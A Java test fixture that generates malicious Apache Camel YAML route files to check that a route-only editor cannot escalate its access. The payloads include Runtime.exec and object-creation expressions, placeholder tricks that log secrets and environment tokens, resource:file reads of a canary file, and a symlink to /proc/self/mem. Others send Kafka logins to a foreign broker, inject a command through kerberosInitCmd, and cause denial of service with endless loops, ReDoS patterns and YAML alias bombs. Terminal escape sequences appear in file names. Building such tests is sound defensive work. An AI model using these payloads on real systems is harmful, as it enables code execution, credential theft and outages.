package routes.cli;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Files by which somebody who may only edit routes tries for more: to run something, to read secrets or files, to send a login
 * elsewhere, to lose records, to end what runs. None has more than one such try; each would begin by itself.
 */
final class RouteAttack {
    /** What no message, log line or file may ever show. */
    static final String CANARY = "canary-7f3a91";

    private final Path elsewhere;
    private final int foreignPort;
    private final Map<String, String> steps = new LinkedHashMap<>();
    private final Map<String, String> files = new LinkedHashMap<>();

    /**
     * @param elsewhere a folder with the file {@code secret.txt}; nothing else may ever be in it
     * @param foreignPort of a server that nobody may talk to
     */
    RouteAttack(Path elsewhere, int foreignPort) throws IOException {
        this.elsewhere = elsewhere;
        this.foreignPort = foreignPort;
        Files.writeString(elsewhere.resolve("secret.txt"), CANARY + ": [" + CANARY + "\n");
        code();
        secrets();
        reach();
        loss();
        others();
        files();
    }

    /** The user's settings that they use. */
    static Map<String, String> settings() {
        return Map.of(
                "my.x",
                "bean",
                "my.s",
                "sysenv",
                "my.t",
                "token",
                "my.e",
                "env",
                "my.p",
                "properties",
                "my.c",
                "class");
    }

    /** By the name of the file below the folder of routes. */
    List<String> names() {
        List<String> names = new ArrayList<>();
        steps.keySet().forEach(name -> names.add(name + ".camel.yaml"));
        names.addAll(files.keySet());
        names.addAll(List.of("linked.camel.yaml", "memory.camel.yaml", "huge.camel.yaml"));
        return names;
    }

    /** Puts one of them into a folder. */
    void write(String name, Path folder) throws IOException {
        Path file = folder.resolve(name);
        if (name.startsWith("linked")) {
            Files.createSymbolicLink(file, elsewhere.resolve("secret.txt"));
        } else if (name.startsWith("memory")) {
            Files.createSymbolicLink(file, Path.of("/proc/self/mem"));
        } else if (name.startsWith("huge")) {
            try (RandomAccessFile sparse = new RandomAccessFile(file.toFile(), "rw")) {
                sparse.setLength(1_500_000_000L);
            }
        } else {
            String plain = name.replace(".camel.yaml", "");
            Files.writeString(file, files.containsKey(name) ? files.get(name) : route(plain, steps.get(plain)));
        }
    }

    private static String route(String id, String steps) {
        return """
                - route:
                    id: %s
                    description: Does more than it may
                    routeConfigurationId: batch
                    from:
                      uri: timer:%s
                      parameters: {repeatCount: 1, delay: 0}
                      steps:
                %s
                """
                .formatted(id, id, steps.strip().indent(8).stripTrailing());
    }

    private String touched(String name) {
        return elsewhere.resolve(name).toString();
    }

    private void code() {
        steps.put(
                "run-command",
                """
                - setBody: {id: get-runtime, simple: "${{{my.x:bean}}:type:java.lang.Runtime?method=getRuntime}"}
                - setBody: {id: run-it, simple: "${body.exec('touch %s')}"}
                """
                        .formatted(touched("a")));
        steps.put(
                "run-plain-command",
                "- setBody: {id: run-bean, simple: \"${{{my.x}}:type:java.lang.Runtime?method=getRuntime}\"}");
        steps.put(
                "make-object",
                "- to: {id: to-object, uri: \"log:x?exchangeFormatter=%23class:java.io.FileOutputStream('"
                        + touched("d") + "')\"}");
        steps.put(
                "make-object-plain",
                """
                - to:
                    id: to-plain-object
                    uri: log:x
                    parameters: {exchangeFormatter: "#{{my.c}}:java.io.FileOutputStream('%s')"}
                """
                        .formatted(touched("d")));
        steps.put(
                "load-class",
                "- log: {id: log-class, message: \"${body[0].context.classResolver.resolveClass('java.lang.Runtime')}\"}");
        steps.put("load-class-nested", "- log: {id: log-nested, message: \"${exchange.context.{{my.c}}Resolver}\"}");
        steps.put(
                "unmarshal-type",
                """
                - setBody: {id: set-json, constant: "{}"}
                - unmarshal: {id: read-type, json: {allowUnmarshallType: true, unmarshalType: java.lang.Runtime}}
                """);
        steps.put(
                "unmarshal-module",
                """
                - setBody: {id: set-text, constant: "{}"}
                - unmarshal: {id: read-module, json: {moduleClassNames: java.io.File}}
                """);
        steps.put("convert-file", "- log: {id: log-file, message: \"${convertTo(" + elsewhere + ",java.io.File)}\"}");
        steps.put("run-language", "- toD: {id: to-language, uri: \"log:a+language:constant:b\"}");
        steps.put("use-script", "- script: {id: run-script, simple: \"${{{my.x}}:kafka-clients?method=close}\"}");
    }

    private void secrets() {
        List<String> texts = List.of(
                "${{{my.none:sysenv}}.API_TOKEN}",
                "${{{my.s}}.API_TOKEN}",
                "{{api.{{my.none:token}}}}",
                "{{api.{{my.t}}}}",
                "{{{{my.none:env}}:API_TOKEN}}",
                "{{{{my.e}}:API_TOKEN}}",
                "{{?env:API_TOKEN}}",
                "{{?api.token}}",
                "{{api.token:}}",
                "{{ api.token }}",
                "${{{my.none:properties}}:api.token}",
                "${{{my.p}}:api.token}",
                "${properties:api.token}",
                "{{camel.component.kafka.brokers}}");
        for (int i = 0; i < texts.size(); i++) {
            steps.put("log-secret-" + i, "- log: {id: log-it-" + i + ", message: \"" + texts.get(i) + "\"}");
        }
    }

    private void reach() {
        String secret = elsewhere.resolve("secret.txt").toString();
        steps.put(
                "read-file",
                "- setBody: {id: read-it, simple: \"  resource:file:" + secret
                        + "\"}\n- log: {id: log-read, message: \"${body}\"}");
        steps.put(
                "read-constant",
                "- setBody: {id: read-constant-file, constant: \" resource:file:" + secret
                        + "\"}\n- log: {id: log-constant, message: \"${body}\"}");
        // Settings that are empty by default: Camel trims what is left.
        steps.put(
                "read-behind-nothing",
                "- setBody: {id: read-behind, constant: \"{{rigs.recording}} resource:file:" + secret
                        + "\"}\n- log: {id: log-behind, message: \"${body}\"}");
        steps.put(
                "read-behind-two",
                "- setHeader: {id: read-two, name: x, simple: \"{{kafka.topics}} {{routes.allow-components}}resource:file:"
                        + secret + "\"}\n- log: {id: log-two, message: \"${header.x}\"}");
        // Camel takes the argument of a function for a text of its own.
        steps.put(
                "read-field",
                "- process: {id: read-json-first, ref: read-json}\n- log: {id: log-field, message: \"${field(resource:file:"
                        + secret.replace("/", "%2F").replace(".", "%2E") + ")}\"}");
        steps.put("read-message", "- log: {id: log-message, message: \"resource:file:" + secret + "\"}");
        String broker = "127.0.0.1:" + foreignPort;
        steps.put(
                "send-login",
                """
                - setBody: {id: set-any, constant: x}
                - to:
                    id: to-foreign
                    uri: kafka:rig.flagged
                    parameters: {brokers: "%s", securityProtocol: SASL_PLAINTEXT}
                """
                        .formatted(broker));
        steps.put(
                "send-login-short", "- to: {id: to-foreign-short, uri: \"kafka:rig.flagged?brokers=" + broker + "\"}");
        steps.put(
                "start-kerberos",
                """
                - to:
                    id: to-kerberos
                    uri: kafka:rig.flagged
                    parameters: {kerberosInitCmd: "touch %s", sslTruststoreLocation: "%s", saslPassword: x}
                """
                        .formatted(touched("g"), secret));
        steps.put(
                "ask-token",
                "- to: {id: to-oauth, uri: kafka:rig.flagged, parameters: {oauthTokenEndpointUri: \"http://" + broker
                        + "/\"}}");
        steps.put("choose-topic", "- wireTap: {id: to-chosen, uri: \"kafka:${header.x}\"}");
        steps.put("steer-record", "- setHeader: {id: set-topic, name: kafka.OVERRIDE_TOPIC, constant: rig.fleet}");
    }

    private void loss() {
        steps.put(
                "name-topic-twice",
                "- setBody: {id: set-some, constant: x}\n- to: {id: to-hidden, uri: \"kafka:rig.flagged?topic=rig.fleet\"}");
        steps.put("loop-for-ever", "- loop: {id: loop-it, constant: \"2147483647\", steps: []}");
        steps.put("wait-for-ever", "- delay: {id: wait-it, constant: \"2147483647000\", asyncDelayed: false}");
        steps.put(
                "swallow-failure",
                """
                - doTry:
                    id: try-send
                    steps:
                      - to: {id: to-swallowed, uri: kafka:rig.flagged}
                    doCatch:
                      - exception: [java.lang.Exception]
                        steps:
                          - log: {id: log-swallowed, message: swallowed}
                """);
        steps.put("serve-routes", "- log: {id: log-api, message: gone}");
        steps.put("long-text", "- log: {id: log-long, message: \"" + "a".repeat(80_000) + "\"}");
        steps.put("long-condition", "- setBody: {id: set-long, simple: \"${aAs(" + "a.".repeat(20_000) + "a)}\"}");
        steps.put(
                "deep-condition",
                "- setBody: {id: set-deep, simple: \"" + "${".repeat(3_000) + "}".repeat(3_000) + "\"}");
    }

    /** What treats failures, and who reads. */
    private void others() {
        files.put(
                "handle-all.camel.yaml",
                """
                - routeConfiguration:
                    onException:
                      - onException:
                          exception: [java.lang.Throwable]
                          steps: [{log: {id: log-failures, message: "${header.Authorization}"}}]
                """);
        files.put(
                "handle-into-fleet.camel.yaml",
                """
                - routeConfiguration:
                    id: into-fleet
                    onException:
                      - onException:
                          exception: [java.io.IOException]
                          steps: [{to: {id: to-fleet, uri: "kafka:rig.fleet"}}]
                """);
        files.put(
                "take-place.camel.yaml", consumer("take-place", "rig.flagged", "groupId: rig-streams.fleet.default.1"));
        files.put(
                "many-threads.camel.yaml",
                consumer("many-threads", "rig.flagged", "groupId: t, consumersCount: 100000"));
        files.put(
                "much-memory.camel.yaml",
                consumer("much-memory", "rig.flagged", "groupId: m, maxPollRecords: 2147483647"));
        files.put("no-pattern.camel.yaml", consumer("no-pattern", "(((", "groupId: p, topicIsPattern: true"));
        files.put(
                "slow-pattern.camel.yaml",
                consumer("slow-pattern", "(([a-z.]+)+)+[0-9]", "groupId: s, topicIsPattern: true"));
        files.put(
                "much-text.camel.yaml",
                "- note: &text \"" + "a".repeat(99_000) + "\"\n  notes:\n" + "    - *text\n".repeat(19_000));
        files.put("long-number.camel.yaml", "- route: {startupOrder: " + "9".repeat(900_000) + "}\n");
    }

    private static String consumer(String id, String topic, String parameters) {
        return """
                - route:
                    id: %s
                    description: Does more than it may
                    routeConfigurationId: batch
                    from:
                      uri: "kafka:%s"
                      parameters: {%s}
                      steps:
                        - process: {ref: open-batch}
                        - process: {ref: commit-batch}
                """
                .formatted(id, topic, parameters);
    }

    private void files() {
        files.put("name-with-\r-return.camel.yaml", route("return-name", "- log: {id: log-return, message: x}"));
        files.put("name-with-\u001b[31m.camel.yaml", route("colour-name", "- log: {id: log-colour, message: x}"));
        files.put("escaped-id.camel.yaml", route("\"esc\\e]0;x\\a\"", "- log: {id: \"a\\nb\", message: x}"));
    }
}
